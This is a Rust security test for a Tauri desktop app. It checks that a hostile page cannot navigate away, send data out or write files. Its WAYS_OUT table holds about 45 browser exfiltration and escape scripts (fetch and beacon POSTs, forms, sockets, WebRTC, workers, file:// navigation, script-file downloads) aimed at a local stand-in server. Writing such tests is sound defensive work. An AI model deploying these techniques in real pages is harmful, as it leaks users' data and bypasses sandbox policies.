//! A hostile page gains nothing. A script that WebDriver injects into the real page tries everything that a malicious
//! npm package, or a flaw in the web view, could try.

mod arguments;
mod commands;

use std::{
    net::SocketAddr,
    path::Path,
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering},
    },
    time::Duration,
};

use desktop::{Desktop, Point, Window};
use tokio::net::{TcpListener, UdpSocket};

use crate::PROGRAM;

/// The text that the page writes into every kind of storage.
const MARK: &str = "carried-out-by-the-page";

/// A server outside the program that counts TCP and UDP connections to it.
struct Outside {
    address: SocketAddr,
    visits: Arc<AtomicUsize>,
}

impl Outside {
    async fn start() -> anyhow::Result<Self> {
        let listener = TcpListener::bind("127.0.0.1:0").await?;
        let address = listener.local_addr()?;
        let socket = UdpSocket::bind(address).await?;
        let visits: Arc<AtomicUsize> = Arc::default();
        let (streams, packets) = (visits.clone(), visits.clone());
        tokio::spawn(async move {
            while listener.accept().await.is_ok() {
                streams.fetch_add(1, Ordering::SeqCst);
            }
        });
        tokio::spawn(async move {
            let mut packet = [0; 64];
            while socket.recv_from(&mut packet).await.is_ok() {
                packets.fetch_add(1, Ordering::SeqCst);
            }
        });
        Ok(Self { address, visits })
    }

    fn visits(&self) -> usize {
        self.visits.load(Ordering::SeqCst)
    }
}

/// Ways out of the window, as scripts. `there` is an address outside, `mark` is the text to send or store.
const WAYS_OUT: &[(&str, &str)] = &[
    ("location", "location.href = there"),
    ("replace", "location.replace(there)"),
    ("top", "window.top.location = there"),
    ("data page", "location.href = 'data:text/html,<h1>Sign in</h1>'"),
    ("blob page", "location.href = URL.createObjectURL(new Blob(['<h1>Sign in</h1>'], { type: 'text/html' }))"),
    ("file page", "location.href = 'file:///etc/hostname'"),
    ("blank page", "location.href = 'about:blank'"),
    ("script page", "location.href = 'javascript:document.body.remove()'"),
    ("window", "window.open(there); window.open(there, '_blank', 'noopener'); window.open('about:blank')"),
    ("link", "add('a', { href: there }).click()"),
    ("link to a new window", "add('a', { href: there, target: '_blank' }).click()"),
    ("ping", "add('a', { href: '#/traits', ping: there }).click()"),
    ("form", "send({ action: there, method: 'post' })"),
    ("form to a new window", "send({ action: there, method: 'post', target: '_blank' })"),
    ("form by get", "send({ action: there, method: 'get' })"),
    ("refresh", "add('meta', { httpEquiv: 'refresh', content: `0;url=${there}` }, document.head)"),
    ("base", "add('base', { href: there }, document.head); add('img', { src: 'picture.png' })"),
    ("frame", "add('iframe', { src: there })"),
    ("written frame", "add('iframe', { srcdoc: `<script src=${there}></` + 'script>' })"),
    ("empty frame", "const w = add('iframe', {}).contentWindow; w?.fetch(there).catch(no); w && (w.location = there)"),
    ("object", "add('object', { data: there }); add('embed', { src: there })"),
    ("fetch", "await fetch(there, { mode: 'no-cors', method: 'POST', body: mark }).catch(no)"),
    ("request", "const r = new XMLHttpRequest(); r.open('GET', there); r.onerror = no; r.send()"),
    ("beacon", "navigator.sendBeacon(there, mark)"),
    ("socket", "new WebSocket(there.replace('http', 'ws'))"),
    ("events", "new EventSource(there)"),
    ("worker", "new Worker(URL.createObjectURL(new Blob([`fetch('${there}')`])))"),
    ("shared worker", "new SharedWorker(URL.createObjectURL(new Blob([`fetch('${there}')`])))"),
    ("service worker", "await navigator.serviceWorker?.register('/index.html').catch(no)"),
    ("script", "add('script', { src: there }); await import(there).catch(no)"),
    ("style", "add('link', { rel: 'stylesheet', href: there }, document.head)"),
    ("ahead", "for (const rel of ['preload', 'prefetch', 'preconnect', 'dns-prefetch', 'icon', 'manifest'])
        add('link', { rel, href: there, as: 'image' }, document.head)"),
    ("picture", "add('img', { src: there }); new Image().src = there"),
    ("media", "add('video', { src: there }); add('audio', { src: there })"),
    ("background", "document.body.style.backgroundImage = `url(${there})`"),
    ("font", "await new FontFace('far', `url(${there})`).load().catch(no)"),
    ("peer", "const p = new RTCPeerConnection({ iceServers: [{ urls: there.replace('http://', 'stun:').replace('/x', '') }] });
        p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer())"),
    ("download", "add('a', { href: URL.createObjectURL(new Blob([mark])), download: mark + '.desktop' }).click()"),
    ("data download", "add('a', { href: 'data:text/plain,' + mark, download: mark + '.sh' }).click()"),
    ("far download", "add('a', { href: there, download: mark }).click()"),
    ("local storage", "localStorage.setItem('mark', mark); sessionStorage.setItem('mark', mark)"),
    ("cookie", "document.cookie = `mark=${mark}; max-age=99999`"),
    ("database", "await new Promise((done) => { const r = indexedDB.open('mark'); r.onupgradeneeded = () =>
        r.result.createObjectStore('mark').put(mark, 'mark'); r.onsuccess = r.onerror = done })"),
    ("caches", "await (await caches.open('mark')).put('/mark', new Response(mark))"),
    ("origin storage", "const d = await navigator.storage.getDirectory(); await d.getFileHandle('mark', { create: true })"),
];

/// Helpers for the scripts in [`WAYS_OUT`]. A script that fails with an error counts as refused.
const TOOLS: &str = "
    const [way, there, mark] = arguments;
    const no = () => {};
    const add = (name, properties, to = document.body) => {
        const one = Object.assign(document.createElement(name), properties);
        to.append(one);
        setTimeout(() => one.remove(), 400);
        return one;
    };
    const send = (properties) => {
        const form = add('form', properties);
        form.append(Object.assign(document.createElement('input'), { name: 'mark', value: mark }));
        form.submit();
    };
    const ways = { WAYS };
    return Promise.race([ways[way]().then(no, no), new Promise((done) => setTimeout(done, 1000))]).then(() => true);";

/// The script that tries one of [`WAYS_OUT`]. No code is evaluated from text, because the policy forbids it.
fn tries() -> String {
    let ways: Vec<String> =
        WAYS_OUT.iter().map(|(name, script)| format!("'{name}': async () => {{ {script} }}")).collect();
    TOOLS.replace("{ WAYS }", &format!("{{ {} }}", ways.join(", ")))
}

#[tokio::test]
async fn a_hostile_page_cannot_leave_the_window_send_anything_out_or_store_anything() -> anyhow::Result<()> {
    let (desktop, home, outside) = (Desktop::start().await?, test_support::TestHome::new(), Outside::start().await?);
    let window = desktop.open(Path::new(PROGRAM), home.path()).await?;
    let script = tries();
    let mut through = Vec::new();
    for (way, _) in WAYS_OUT {
        let arguments = vec![(*way).into(), format!("http://{}/x", outside.address).into(), MARK.into()];
        // A page that navigates away loses the answer.
        let answer = window.script::<bool>(&script, arguments).await;
        tokio::time::sleep(Duration::from_millis(150)).await;
        let visits = outside.visits.swap(0, Ordering::SeqCst);
        if visits > 0 || answer.is_err() || !is_whole(&window).await {
            through.push(format!("{way}: {visits} visits, {answer:?}"));
            window.client().goto("tauri://localhost").await?;
        }
    }
    drops_a_link(&desktop, &window, &outside).await?;
    assert_eq!(through, Vec::<String>::new(), "ways out of the window");
    window.close().await?;
    for folder in ["downloads", "home", "data", "config", "cache"] {
        assert_eq!(marked(&desktop.folder(folder)), Vec::<String>::new(), "stored in the user's {folder}");
    }
    assert_eq!(marked(home.path()), Vec::<String>::new(), "stored in the program's home");
    assert!(
        !Path::new(MARK).exists() && marked_names(Path::new(".")).is_empty(),
        "stored where the program was started"
    );
    Ok(())
}

/// Whether the window still shows the program and the program answers.
async fn is_whole(window: &Window<'_>) -> bool {
    let script = "return location.href.startsWith('tauri://localhost') && document.querySelector('nav') !== null &&
        window.__TAURI_INTERNALS__.invoke('workspace').then((it) => Boolean(it.connection), () => false)";
    tokio::time::timeout(Duration::from_secs(20), window.script::<bool>(script, Vec::new()))
        .await
        .is_ok_and(|it| it.unwrap_or(false))
}

/// Drops a link from another program on the page with the real pointer.
async fn drops_a_link(desktop: &Desktop, window: &Window<'_>, outside: &Outside) -> anyhow::Result<()> {
    let heard = "window.heardDrops = []; for (const name of ['dragenter', 'drop'])
        addEventListener(name, (event) => heardDrops.push(event.type), true)";
    window.script::<()>(heard, Vec::new()).await?;
    window.resize(1280, 800).await?;
    let (_link, place) = desktop.offer_link(&format!("http://{}/dropped", outside.address)).await?;
    window.drag_in(place, Point { x: 640, y: 400 }).await?;
    tokio::time::sleep(Duration::from_millis(500)).await;
    let heard: Vec<String> = window.script("return window.heardDrops ?? ['went away']", Vec::new()).await?;
    assert!(heard.contains(&"dragenter".to_owned()), "the link was not dragged into the page: {heard:?}");
    assert!(is_whole(window).await, "the dropped link took the program's place");
    assert_eq!(outside.visits(), 0, "the dropped link was followed");
    Ok(())
}

/// Files in a folder that contain the mark or are named after it.
fn marked(folder: &Path) -> Vec<String> {
    let mut found = marked_names(folder);
    for entry in std::fs::read_dir(folder).into_iter().flatten().flatten() {
        let path = entry.path();
        let Ok(kind) = entry.file_type() else { continue };
        if kind.is_dir() {
            found.extend(marked(&path));
        } else if kind.is_file() && std::fs::read(&path).is_ok_and(|bytes| holds_mark(&bytes)) {
            found.push(path.display().to_string());
        }
    }
    found
}

fn marked_names(folder: &Path) -> Vec<String> {
    let names = std::fs::read_dir(folder).into_iter().flatten().flatten().map(|entry| entry.file_name());
    names.filter_map(|name| name.into_string().ok()).filter(|name| name.contains(MARK)).collect()
}

/// Whether some bytes contain the mark, in a one-byte or two-byte encoding.
fn holds_mark(bytes: &[u8]) -> bool {
    let holds = |bytes: &[u8]| bytes.windows(MARK.len()).any(|part| part == MARK.as_bytes());
    let narrow: Vec<u8> = bytes.iter().copied().filter(|byte| *byte != 0).collect();
    holds(bytes) || holds(&narrow)
}
